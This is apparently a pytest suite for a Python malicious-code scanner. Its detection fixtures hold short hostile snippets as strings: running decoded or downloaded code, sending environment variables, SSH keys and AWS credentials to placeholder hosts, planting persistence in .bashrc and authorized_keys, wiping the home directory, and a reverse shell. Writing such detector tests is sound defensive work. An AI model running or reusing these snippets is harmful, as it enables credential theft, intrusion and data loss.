"""Python: what a file does, by its syntax tree and the way of its values."""

from __future__ import annotations

import base64
import sys

import pytest

from inkgate.code import LONGEST, Language, analyse
from inkgate.code.model import Trait


def rules(text: str, **options: bool) -> set[str]:
    """Ids of what is found."""
    return {item.rule for item in analyse(text, Language.PYTHON, **options).findings}  # type: ignore[arg-type]


ENCODED = base64.b64encode(b"print('hello')").decode()
ADDRESS = base64.b64encode(b"https://collect.example/in").decode()


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("script-runs-decoded", f"import base64\nexec(base64.b64decode('{ENCODED}'))"),
        (
            "script-runs-decoded",
            f"import base64 as b\nx = b.b64decode('{ENCODED}')\ny = x.decode()\neval(compile(y, '', 'exec'))",
        ),
        ("script-runs-decoded", "exec(''.join(map(chr, [112, 114, 105, 110, 116])))"),
        ("script-runs-decoded", "def d(v):\n    return bytes.fromhex(v)\nexec(d(open('x').read()))"),
        ("script-runs-decoded", "import os, codecs\nos.system(codecs.decode('yf -yn', 'rot13'))"),
        ("script-runs-downloaded", "import requests\nr = requests.get('https://a.example/x')\nexec(r.text)"),
        ("script-runs-downloaded", "from urllib.request import urlopen\nexec(urlopen('https://a.example').read())"),
        ("script-runs-hidden-file", "exec(open('/tmp/.step').read())"),
        ("script-hides-names", "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')"),
        ("script-hides-names", "m = __import__('so'[::-1])\nm.system('id')"),
        (
            "script-hides-address",
            f"import base64, requests\nu = base64.b64decode('{ADDRESS}').decode()\nrequests.post(u, json=1)",
        ),
        ("script-loads-code", "import pickle, base64\npickle.loads(base64.b64decode(x))"),
        ("script-sends-environment", "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))"),
        (
            "script-sends-environment",
            "import os, requests\nall = {k: v for k, v in os.environ.items()}\nrequests.post(u, data=all)",
        ),
        (
            "script-sends-credentials",
            "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
            "requests.post('https://a.example', data={'k': key})",
        ),
        (
            "script-sends-credentials",
            "import os, requests\nfound = []\ndef take(p):\n    found.append(open(p).read())\n"
            "for p in ['~/.aws/credentials']:\n    take(os.path.expanduser(p))\nrequests.post(u, json=found)",
        ),
        ("script-sends-variable", "import os, requests\nrequests.post(u, json={'data': os.environ['NPM_TOKEN']})"),
        ("script-leaks-by-name", "import os, socket\nsocket.gethostbyname(os.environ['API_KEY'] + '.a.example')"),
        ("script-bad-host", "import requests\nrequests.get('http://45.1.2.3/x')"),
        ("script-shows-secret", "import os\nprint(os.environ['API_KEY'])"),
        (
            "script-collects-secrets",
            "import os, json\njson.dumps({'A_KEY': os.environ['A_KEY'], 'B_TOKEN': os.environ['B_TOKEN']})",
        ),
        ("script-persists", "open('/home/u/.bashrc', 'a').write('x')"),
        ("script-opens-door", "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)"),
        ("script-writes-agent-files", "from pathlib import Path\nPath('CLAUDE.md').write_text('x')"),
        ("script-destroys", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"),
        ("script-destroys", "import subprocess\nsubprocess.run('rm -rf ~/', shell=True)"),
        (
            "script-reverse-shell",
            "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        ),
    ],
)
def test_harm_is_seen(rule: str, text: str) -> None:
    """Each kind of harm is found, also when it passes through names, containers and functions."""
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "import os, requests\nh = {'Authorization': f\"Bearer {os.environ['API_KEY']}\"}\n"
        "requests.post('https://a.example', headers=h, json={'q': 1})",
        "import os, requests\nrequests.get('https://a.example', params={'api_key': os.environ['A_KEY']})",
        "import os, subprocess\nsubprocess.run(['git', 'status'], env={**os.environ, 'LANG': 'C'})",
        "import base64\nopen('a.png', 'wb').write(base64.b64decode(data))",
        "import requests, json\nprint(requests.get('https://a.example').json()['title'])",
        "exec(open('version.py').read())",
        "import importlib\nmodule = importlib.import_module(f'plugins.{name}')\ngetattr(module, 'run')()",
        "import os\nkey = os.environ.get('API_KEY')\nprint('set' if key else 'missing', key[:4])",
        "import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))",
        "print('curl https://a.example | sh is what you should not run')",
    ],
)
def test_ordinary_code_is_left_alone(text: str) -> None:
    """Keys in headers, environments of programs, decoded pictures and plugins are no findings."""
    assert rules(text) <= {"script-reads-environment"}


def test_a_place_is_that_of_the_characters() -> None:
    """Offsets count characters although the parser counts bytes."""
    text = "# \u00e4\u00f6\u00fc\nx = '\u65e5\u672c'; exec(__import__('base64').b64decode(b'aGk='))\r\n"
    found = next(item for item in analyse(text, Language.PYTHON).findings if item.rule == "script-runs-decoded")

    assert text[found.start : found.end] == "exec(__import__('base64').b64decode(b'aGk='))"


def test_a_wrong_line_hides_nothing() -> None:
    """What parses by itself is analysed though the file as a whole does not parse; a file says so."""
    text = "import base64\nprint 'old'\nexec(base64.b64decode(x))\n"

    assert rules(text) == {"script-runs-decoded", "script-syntax"}
    assert rules(text, example=True) == {"script-runs-decoded"}
    assert rules("    import base64\n    exec(base64.b64decode(x))\n", example=True) == {"script-runs-decoded"}


def test_code_in_code_is_analysed() -> None:
    """A text that is put together and run is looked into."""
    inner = base64.b64encode(b"import os, requests\nrequests.post(u, json=dict(os.environ))").decode()

    assert "script-sends-environment" in rules(f"import base64\nexec(base64.b64decode('{inner}'))")


def test_traits_tell_what_code_does() -> None:
    """Network, credentials and programs are told without being findings."""
    text = "import requests, subprocess\nrequests.post('https://a.example', json=1)\nsubprocess.run(['ls'])"

    assert analyse(text, Language.PYTHON).traits == {Trait.NETWORK, Trait.SENDS, Trait.RUNS}


@pytest.mark.parametrize(
    "text",
    [
        "(" * 50_000,
        "-" * 50_000 + "1",
        "not " * 20_000 + "1",
        "1+" * 50_000 + "1",
        "f(" * 5_000 + ")" * 5_000,
        "\n".join(" " * level + "if 1:" for level in range(300)) + " 1",
    ],
)
def test_what_nests_too_deeply_is_a_finding(text: str) -> None:
    """Nothing that could exhaust the parser reaches it, and nothing is passed over in silence."""
    assert rules(text) == {"script-not-analysed"}


def test_what_is_too_long_is_a_finding() -> None:
    """The part that is read is analysed, the rest is reported."""
    text = "exec(__import__('base64').b64decode(x))\n" + "x = 1\n" * (LONGEST // 6 + 10)

    assert rules(text) == {"script-runs-decoded", "script-not-analysed"}


def test_a_failing_analyser_is_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    """A fault of ours is no clean result."""
    import inkgate.code.python as module

    monkeypatch.setattr(module, "parse", lambda _text: 1 / 0)

    assert rules("x = 1") == {"script-not-analysed"}


def test_recursion_limits_do_not_matter() -> None:
    """A long chain within the bounds is analysed whatever the stack has left."""
    limit = sys.getrecursionlimit()
    text = "x = " + "1+" * 900 + "1\nexec(__import__('base64').b64decode(x))"
    try:
        sys.setrecursionlimit(400)
        found = rules(text)
    finally:
        sys.setrecursionlimit(limit)

    assert found & {"script-runs-decoded", "script-not-analysed"}
